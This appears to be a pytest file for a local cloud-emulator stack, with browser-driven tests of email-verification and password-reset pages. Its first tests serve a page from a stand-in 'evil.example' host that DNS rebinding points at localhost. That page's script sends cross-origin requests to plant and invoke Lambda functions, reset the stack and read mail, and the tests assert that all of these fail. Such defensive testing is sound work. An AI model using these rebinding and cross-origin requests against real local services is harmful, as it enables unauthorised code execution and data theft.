"""What a page from elsewhere can do while the stack runs, tried by a real browser: nothing."""

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from local.stack import client
from tests.local.browser import CHROMIUM, SECONDS, Browser, Site, dumped, showing
from tests.local.conftest import account, ask
from tests.local.ministack import eventually, zipped
from tests.support.stack import RunningStack

pytestmark = [
    pytest.mark.xdist_group("local"),
    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine"),
]

# A page's own name, which whoever has the name can have lead to 127.0.0.1.
REBOUND = "--host-resolver-rules=MAP *.example 127.0.0.1"
PAGE = """<!doctype html><meta charset="utf-8"><script>
const attempts = ATTEMPTS;
async function tried([url, how]) {
  try {
    const answer = await fetch(url, how);
    return answer.type === "opaque" ? "sent" : `read ${answer.status} ${(await answer.text()).slice(0, 200)}`;
  } catch (error) {
    return "blocked";
  }
}
(async () => {
  const found = [];
  for (const attempt of attempts) found.push(await tried(attempt));
  await fetch("/found", { method: "POST", body: JSON.stringify(found) });
})();
</script>"""


def send_mail(small: RunningStack, html: str) -> None:
    """Send a mail to somebody."""
    mails = client("ses", account(small))
    mails.verify_email_identity(EmailAddress="from@example.com")
    mails.send_email(
        Source="from@example.com",
        Destination={"ToAddresses": ["to@example.com"]},
        Message={"Subject": {"Data": "Hello"}, "Body": {"Text": {"Data": "Hello"}, "Html": {"Data": html}}},
    )


PLANTED = "def handler(event, context): return 'planted'"


def attack(site: Site, attempts: list[tuple[str, dict[str, Any]]], profile: Path) -> list[str]:
    """What became of each attempt of a page of http://evil.example."""
    site.page = PAGE.replace("ATTEMPTS", json.dumps(attempts))
    with site.served(), showing(f"http://evil.example:{site.port}/", profile, REBOUND):
        found: list[str] = site.found.get(timeout=SECONDS)
        return found


def test_a_page_from_elsewhere_plants_no_function_and_reads_nothing(small: RunningStack, tmp_path: Path) -> None:
    run = account(small)
    aws, existing = client("lambda", run), client("lambda", run).list_functions()["Functions"]
    code = {"ZipFile": base64.b64encode(zipped("code.py", PLANTED)).decode()}
    function = {
        "FunctionName": "planted",
        "Runtime": "python3.13",
        "Handler": "code.handler",
        "Role": existing[0]["Role"],
    }
    create, target = json.dumps({**function, "Code": code}), f"{run.endpoint}/2015-03-31/functions"
    simple: dict[str, Any] = {"method": "POST", "mode": "no-cors", "body": create}
    invoke = {"method": "POST", "mode": "no-cors", "body": "{}"}
    signed = {"Authorization": "AWS4-HMAC-SHA256 Credential=test/20261128/us-east-1/lambda/aws4_request"}
    by_name = "X-Amz-Credential=test/20261128/us-east-1/lambda/aws4_request"
    attempts = [
        (target, simple),
        (f"{target}?{by_name}", simple),
        (target, {"method": "POST", "body": create, "headers": signed}),
        (f"{target}/planted/invocations", invoke),
        (f"{target}/{existing[0]['FunctionName']}/invocations", invoke),
        (f"{run.endpoint}/_ministack/reset", {"method": "POST", "mode": "no-cors"}),
        (f"{run.endpoint}/_ministack/ses/messages", {}),
        (f"{run.endpoint}/_lamina/events", {}),
        (f"{small.url}/_local/stack", {}),
        (f"{small.url}/_local/mail", {}),
        (f"http://evil.example:{small.port}/_local/stack", {}),
        (f"{small.url}/echo/x", {"method": "POST", "mode": "no-cors", "body": "from a page"}),
    ]
    found = attack(Site(""), attempts, tmp_path)
    assert set(found) <= {"blocked", "sent"}
    assert [one["FunctionName"] for one in aws.list_functions()["Functions"]] == [
        one["FunctionName"] for one in existing
    ]
    assert "from a page" not in small.output
    assert ask(small, "/health").status == 200


@pytest.mark.parametrize("path", ["/_local/stack", "/_local/mail", "/_local"])
def test_a_name_that_is_made_to_lead_here_shows_nothing(small: RunningStack, tmp_path: Path, path: str) -> None:
    shown = dumped(f"http://evil.example:{small.port}{path}", tmp_path, REBOUND)
    assert "FORBIDDEN" in shown
    assert "Lamina console" not in shown


def clicked(browser: Browser, page: str, frame: dict[str, float], link: str) -> bool:
    """Click in the middle of a frame; whether the link's page opens within two seconds."""
    browser.click(page, frame["x"] + frame["width"] / 2, frame["y"] + frame["height"] / 2)
    return browser.shows(link, 2.0)


def test_the_button_of_a_caught_mail_leads_to_its_page(small: RunningStack, tmp_path: Path) -> None:
    link = f"{small.url}/verify-email?token=from-the-mail"
    send_mail(small, f'<a href="{link}" style="display:block;height:300px">Verify</a>')
    mail = f"{small.url}/_local/mail/{ask(small, '/_local/data/mail').json['items'][0]['id']}"
    with showing(mail, tmp_path) as browser:
        mails = browser.opened(mail)
        eventually(
            lambda: bool(browser.run(mails, "document.querySelector('iframe') !== null")), "the mail is shown", SECONDS
        )
        browser.run(mails, "document.querySelector('iframe').scrollIntoView({ block: 'end' })")
        frame = browser.run(mails, "document.querySelector('iframe').getBoundingClientRect().toJSON()")
        frame["height"] = 200
        # A frame that has just loaded takes clicks only once the browser has drawn it, and nothing says when that is.
        eventually(lambda: clicked(browser, mails, frame, link), "the link opens", SECONDS)
        page = browser.opened(link)
        assert browser.run(page, "document.querySelector('button').textContent") == "Verify your address"


def test_the_page_of_a_link_sends_its_token_on_a_click_and_shows_what_comes_back(
    small: RunningStack, tmp_path: Path
) -> None:
    link = f"{small.url}/reset-password?token=abc%2Bdef"
    with showing(link, tmp_path) as browser:
        page = browser.opened(link)
        sent = browser.run(
            page,
            """new Promise((shown) => {
              document.querySelector("[name=password]").value = "Analytical-1843";
              const answer = document.getElementById("answer");
              new MutationObserver(() => shown(answer.textContent)).observe(answer, {childList: true});
              document.querySelector("button").click();
            })""",
        )
    event = json.loads(sent)["event"]
    assert (event["httpMethod"], event["path"]) == ("POST", "/v1/auth/reset-password")
    body = {"token": "abc+def", "password": "Analytical-1843", "keep_api_keys": False}
    assert json.loads(event["body"]) == body


TRIED = """(async () => {
  const form = document.getElementById("form"), button = form.querySelector("button"), answers = [], seen = [];
  const said = document.getElementById("said");
  const look = () => seen.push([answers.length, button.disabled, form.hidden, said.textContent]);
  const says = async (text) => {
    while (said.textContent !== text) await new Promise((done) => setTimeout(done));
  };
  window.fetch = () => new Promise((answered) => answers.push(answered));
  const refusal = {error: {message: "Not now.", details: []}};
  button.click();
  button.click();
  form.requestSubmit();
  look();
  answers[0](new Response(JSON.stringify(refusal), {status: 503}));
  await says("Not now.");
  look();
  button.click();
  form.requestSubmit();
  answers[1](new Response("{}", {status: 200}));
  await says("The address is verified.");
  form.requestSubmit();
  look();
  return seen;
})()"""


def test_the_page_of_a_link_sends_once_however_often_it_is_clicked(small: RunningStack, tmp_path: Path) -> None:
    link = f"{small.url}/verify-email?token=once"
    with showing(link, tmp_path) as browser:
        seen = browser.run(browser.opened(link), TRIED)
    assert seen == [
        [1, True, False, "Sending …"],
        [1, False, False, "Not now."],
        [2, True, True, "The address is verified."],
    ]


def test_its_own_pages_show_in_the_browser(small: RunningStack, tmp_path: Path) -> None:
    page = f"{small.url}/_local"
    with showing(page, tmp_path) as browser:
        browser.opened(page)
        shown = "document.querySelector('h1')?.textContent"
        eventually(lambda: browser.run(page, shown) == "Requests", "the console is shown", SECONDS)
